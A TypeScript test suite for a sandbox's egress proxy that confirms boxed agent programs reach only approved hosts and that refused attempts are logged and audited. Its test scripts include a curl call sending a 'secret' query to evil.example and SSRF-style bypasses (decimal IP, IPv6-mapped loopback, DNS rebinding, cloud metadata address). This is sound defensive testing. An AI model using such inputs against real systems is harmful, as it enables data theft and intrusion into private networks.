/**
 * The way out of a real box with an empty network namespace: what a program in there reaches, and what it does not,
 * whether or not it asks the proxy.
 */
import { once } from "node:events";
import { createServer as createHttp } from "node:http";
import { networkInterfaces } from "node:os";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { proxyVariables, startBoxed, type BoxedProcess } from "../../packages/core/src/sandbox/sandbox.ts";
import { auditRows } from "../support/audit-rows.ts";
import { folder, namespace, newMarker, PATH } from "../support/boxes.ts";
import { type CoreHome, eventually, newHome } from "../support/core-home.ts";
import { smallAgentAt } from "../support/small-agent.ts";
import { echoServer, listening, makeEgress, RUN_ID, type WayOutOptions } from "../support/way-out.ts";

const AGENT_ID = "com.example.reacher";

type Boxed = Awaited<ReturnType<typeof makeEgress>> & {
  /** What the program printed on both outputs, when it has ended. */
  output: string;
  end: Awaited<BoxedProcess["ended"]>;
};

/** Runs a program in a box whose way out allows the patterns, to its end. */
async function runInBox(
  argv: string[],
  options: WayOutOptions & { env?: Record<string, string>; proxy?: boolean },
): Promise<Boxed> {
  const made = await makeEgress(options);
  const proxied = options.proxy === false ? {} : proxyVariables(options.patterns);
  const box = await startBoxed({
    probe: namespace,
    argv,
    cwd: "/",
    env: { PATH, LC_ALL: "C", ...options.env, ...proxied },
    pipeFolder: folder,
    marker: newMarker(),
    policy: { granted: [], hidden: [], own: [], tools: [process.execPath], network: "none", limits: {} },
    wayOut: (listener) => made.egress.open({ runId: RUN_ID, agentId: AGENT_ID, patterns: options.patterns }, listener),
  });
  onTestFinished(() => {
    made.egress.close(RUN_ID);
    return box.kill();
  });
  let output = "";
  for (const stream of [box.stdout, box.stderr]) stream.on("data", (chunk) => (output += String(chunk)));
  const closed = Promise.all([once(box.stdout, "close"), once(box.stderr, "close")]);
  box.release();
  const end = await box.ended;
  await closed;
  return { ...made, output, end };
}

const curl = (...args: string[]): string[] => [
  "/usr/bin/curl",
  "--silent",
  "--show-error",
  "--max-time",
  "10",
  ...args,
];
const node = (code: string): string[] => [process.execPath, "--input-type=module", "-e", code];

describe("a box with a way out", () => {
  test("reaches what was approved, by curl and by Node, over the proxy its environment names", async () => {
    const server = await echoServer();
    const url = `http://127.0.0.1:${server.port}/`;
    const byCurl = await runInBox(curl(url), { patterns: [`127.0.0.1:${server.port}`] });
    expect([byCurl.output, byCurl.end.exitCode]).toEqual(["ok", 0]);
    const code = `console.log(await (await fetch(${JSON.stringify(url)})).text())`;
    const byNode = await runInBox(node(code), { patterns: [`127.0.0.1:${server.port}`] });
    expect([byNode.output, byNode.end.exitCode]).toEqual(["ok\n", 0]);
    expect(server.requests).toHaveLength(2);
  });

  test("reaches its own servers directly, and this machine's by name only where it is named", async () => {
    const server = await echoServer();
    const code = `
      import { createServer } from "node:http";
      const own = createServer((_, answer) => answer.end("own")).listen(0, "127.0.0.1", async () => {
        const text = await (await fetch("http://localhost:" + own.address().port)).text();
        console.log(text, (await fetch("http://127.0.0.1:${server.port}")).status);
        own.close();
      });`;
    const { output } = await runInBox(node(code), { patterns: [`127.0.0.1:${server.port}`] });
    expect(output).toBe("own 200\n");
  });

  test("has no network at all without the proxy", async () => {
    const server = await echoServer();
    const own = Object.values(networkInterfaces()).flatMap((list) => list?.map(({ address }) => address) ?? []);
    const attempts = [...own, "8.8.8.8", "2606:4700::1111"].map(
      (address) => `{ port: ${server.port}, host: "${address}" }`,
    );
    const code = `
      import { connect } from "node:net";
      import { createSocket } from "node:dgram";
      import { lookup, Resolver } from "node:dns/promises";
      import { networkInterfaces } from "node:os";
      const tried = [${attempts.join(", ")}].map((where) => new Promise((done) =>
        connect(where).once("connect", () => done("open " + where.host)).once("error", () => done("shut"))));
      const udp = createSocket("udp4");
      tried.push(new Promise((done) => udp.send("x", 53, "8.8.8.8", (error) => done(error ? "shut" : "open udp"))));
      tried.push(lookup("example.com").then(() => "open lookup", () => "shut"));
      tried.push(new Resolver({ timeout: 200, tries: 1 }).resolve4("example.com").then(() => "open dns", () => "shut"));
      console.log(JSON.stringify([...new Set(await Promise.all(tried))]), Object.keys(networkInterfaces()).join());
      process.exit();`;
    const { output } = await runInBox(node(code), { patterns: ["*"], proxy: false });
    expect(output).toBe('["shut"] lo\n');
    expect(server.connections()).toBe(0);
  });

  const REFUSED: [name: string, url: (port: number) => string, code: string][] = [
    ["an address", (port) => `http://127.0.0.2:${port}/`, "egress.not_approved"],
    ["a port", () => "http://127.0.0.1:1/", "egress.not_approved"],
    ["a name", (port) => `http://localhost.:${port}/`, "egress.not_approved"],
    ["IPv6", (port) => `http://[::1]:${port}/`, "egress.not_approved"],
    ["a mapped address", (port) => `http://[::ffff:127.0.0.1]:${port}/`, "egress.not_approved"],
    ["a number", () => "http://2130706434/", "egress.not_approved"],
    ["a name at a private address", (port) => `http://inner.example:${port}/`, "egress.private_address"],
    ["a name at this machine", (port) => `http://rebound.example:${port}/`, "egress.private_address"],
  ];
  test.each(REFUSED)("is refused %s, in plain HTTP and by CONNECT", async (_name, url, code) => {
    const server = await echoServer();
    const names: Record<string, string[]> = { "inner.example": ["10.0.0.1"], "rebound.example": ["127.0.0.1", "::1"] };
    const target = url(server.port);
    const script = `curl -s -i --noproxy '' '${target}'; curl -s -v -p --noproxy '' '${target}' 2>&1`;
    const { output, refusals } = await runInBox(["/bin/sh", "-c", script], {
      patterns: [`127.0.0.1:${server.port}`, "*.example", `rebound.example:${server.port}`],
      resolve: (name) => Promise.resolve(names[name] ?? []),
    });
    expect(output.match(new RegExp(`OpenSentience-Error: ${code}`, "g"))).toHaveLength(2);
    expect(refusals()).toMatchObject([{ agent_id: AGENT_ID, code }]);
    expect(server.connections()).toBe(0);
  });

  test("is refused a redirect to where it may not go", async () => {
    const inner = await echoServer();
    const outer = createHttp((_request, answer) => {
      answer.writeHead(302, { location: `http://127.0.0.2:${inner.port}/` }).end();
    });
    await listening(outer);
    const port = (outer.address() as AddressInfo).port;
    const { output } = await runInBox(curl("--location", `http://127.0.0.1:${port}/`), {
      patterns: [`127.0.0.1:${port}`],
    });
    expect(JSON.parse(output)).toMatchObject({ error: { code: "egress.not_approved" } });
    expect(inner.connections()).toBe(0);
  });
});

describe("a run with network:egress, from the command line on", () => {
  let home: CoreHome;
  beforeAll(async () => {
    home = await newHome();
    await home.json(["core", "start"]);
  });
  afterAll(() => home.dispose());

  test("reaches the approved host, is told the truth, and what it may not is on record", async () => {
    const server = await echoServer();
    const url = `http://127.0.0.1:${server.port}/path?query=secret`;
    const status = await home.json<{ web_url: string }>(["core", "status"]);
    const page = Number(new URL(status.web_url).port);
    const permissions = [`network:egress:127.0.0.1:${server.port}`, `network:egress:127.0.0.1:${page}`];
    const coreLines = [
      "refused to connect to evil.example:80; its manifest does not ask for network:egress:evil.example:80",
      `refused to connect to 127.0.0.1:${page}: Core's own port is nobody's to reach`,
      "Core ends the run: a stop was asked for",
    ];
    const script = [
      "#!/bin/sh",
      `curl -s '${url}'; echo " $?"`,
      `for again in 1 2; do curl -s 'http://evil.example/path?query=secret' | grep -o 'egress[.][a-z_]*'; done`,
      `curl -s 'http://127.0.0.1:${page}/' | grep -o 'egress[.][a-z_]*'`,
      `curl -s --noproxy '*' -m 5 '${url}'; echo "direct $?"`,
      "env | grep -c NODE_CHANNEL",
      // SIGTERM comes to every member of the tree, so to what the handler starts as well.
      'trap \'trap "" TERM; curl -s $URL; echo " in its grace"; exit 0\' TERM',
      "echo ready; while :; do sleep 0.05; done",
    ];
    const text = script.join("\n").replace("$URL", url);
    await smallAgentAt(home, "com.example.reacher", "running", { permissions }, { "bin/agent": { text, mode: 0o755 } });
    const records = (): Promise<{ line: string; stream: string }[]> =>
      home.jsonLines<{ line: string; stream: string }>(["agents", "logs", "com.example.reacher"]);
    const lines = async (isCore = false): Promise<string[]> =>
      (await records()).filter(({ stream }) => (stream === "core") === isCore).map(({ line }) => line);
    await eventually(async () => ((await lines()).includes("ready") ? true : undefined), "the end of its requests");
    const info = await home.json<Record<string, unknown>>(["agents", "info", "com.example.reacher"]);
    expect(JSON.stringify(info)).toContain('"brokered"');
    const stopped = await home.json<Record<string, unknown>>(["agents", "stop", "com.example.reacher"]);
    expect(stopped).toMatchObject({ exit_code: 0 });
    // What the shell says of its own child.
    expect((await lines()).filter((line) => line !== "Terminated")).toEqual([
      "ok 0",
      "egress.not_approved",
      "egress.not_approved",
      "egress.core_port",
      "direct 7",
      "0",
      "ready",
      "ok in its grace",
    ]);
    expect(await lines(true)).toEqual(coreLines);
    const refused = auditRows(home, "security.egress_refused").map(({ metadata }) => metadata);
    expect(refused).toEqual([
      { agent_id: AGENT_ID, host: "evil.example", port: 80, code: "egress.not_approved" },
      { agent_id: AGENT_ID, host: "127.0.0.1", port: page, code: "egress.core_port" },
      { agent_id: AGENT_ID, count: 3, phase: "total" },
    ]);
    expect(server.connections()).toBe(2);
  });

  test("that was requested and not approved, the log of the run names what to approve", async () => {
    const here = "network:egress:127.0.0.1:1";
    const permissions = ["network:egress:*.example.com", here, "network:egress:*"];
    const script = [
      "#!/bin/sh",
      "for host in a.example.com b.example.com; do curl -s -o /dev/null https://$host/; done",
      "for port in 1 1 2 2 3; do curl -s -o /dev/null http://127.0.0.1:$port/; done",
      "echo ready; exec sleep 1000",
    ];
    const agentId = "com.example.half-approved";
    await smallAgentAt(
      home,
      agentId,
      "built",
      { permissions },
      { "bin/agent": { text: script.join("\n"), mode: 0o755 } },
    );
    await home.json(["agents", "enable", agentId, "--approve", here]);
    await home.json(["agents", "run", agentId]);
    const log = await eventually(async () => {
      const { stdout } = await home.cli(["agents", "logs", agentId]);
      return stdout.includes("ready") ? stdout : undefined;
    }, "the end of its requests");
    const command = `(opensentience agents enable ${agentId})`;
    for (const host of ["a", "b"])
      expect(log).toContain(
        `core: refused to connect to ${host}.example.com:443; approve network:egress:*.example.com ${command}`,
      );
    // A pattern without a port is no leave for this machine; what is approved and does not answer is told once.
    for (const port of [2, 3]) {
      const asked = `its manifest does not ask for network:egress:127.0.0.1:${port}`;
      expect(log.split(`core: refused to connect to 127.0.0.1:${port}; ${asked}\n`)).toHaveLength(2);
    }
    expect(log.split("core: could not connect to 127.0.0.1:1\n")).toHaveLength(2);
    await home.json(["agents", "stop", agentId]);
  });

  test("that is wide and names no private address: the log names the permission that would, and never for metadata", async () => {
    const wide = "network:egress:*";
    const named = "network:egress:192.168.1.5:8080";
    const targets = ["192.168.1.5:8080", "192.168.1.5:8081", "169.254.169.254:80"];
    const script = [
      "#!/bin/sh",
      `for target in ${targets.join(" ")}; do curl -s -m 9 http://$target/ | grep -o 'egress[.][a-z_]*'; done`,
      "echo ready; exec sleep 1000",
    ];
    const agentId = "com.example.wide";
    const files = { "bin/agent": { text: script.join("\n"), mode: 0o755 } };
    await smallAgentAt(home, agentId, "built", { permissions: [wide, named] }, files);
    await home.json(["agents", "enable", agentId, "--approve", wide]);
    await home.json(["agents", "run", agentId]);
    const log = await eventually(async () => {
      const { stdout } = await home.cli(["agents", "logs", agentId]);
      return stdout.includes("ready") ? stdout : undefined;
    }, "the end of its requests");
    expect(log.split("egress.private_address\n")).toHaveLength(4);
    const said = log.split("\n").flatMap((line) => /core: refused to connect to (.*)/.exec(line)?.[1] ?? []);
    expect(said).toEqual([
      `192.168.1.5:8080; approve ${named} (opensentience agents enable ${agentId})`,
      "192.168.1.5:8081; its manifest does not ask for network:egress:192.168.1.5:8081",
      expect.stringMatching(/^169\.254\.169\.254:80: .* is an address of this machine or of a private network/),
    ]);
    await home.json(["agents", "stop", agentId]);
  });

  test("without any, a run has no proxy, and what is known of the agent says so", async () => {
    const server = await echoServer();
    const script = [
      "#!/bin/sh",
      'echo "proxy $(env | grep -ci proxy)"',
      `curl -s -m 5 http://127.0.0.1:${server.port}/; echo "direct $?"`,
      "echo ready; exec sleep 1000",
    ];
    const agentId = "com.example.no-way-out";
    await smallAgentAt(home, agentId, "running", {}, { "bin/agent": { text: script.join("\n"), mode: 0o755 } });
    const log = await eventually(async () => {
      const { stdout } = await home.cli(["agents", "logs", agentId]);
      return stdout.includes("ready") ? stdout : undefined;
    }, "the end of its requests");
    expect(log).toMatch(/proxy 0\n.*direct 7\n/);
    const { stdout } = await home.cli(["agents", "info", agentId]);
    expect(stdout).toContain("No network:egress is approved for this agent: it reaches no host and finds no name");
    expect((await home.json<{ held: string }>(["agents", "info", AGENT_ID])).held).not.toContain("No network:egress");
    await home.json(["agents", "stop", agentId]);
  });
});
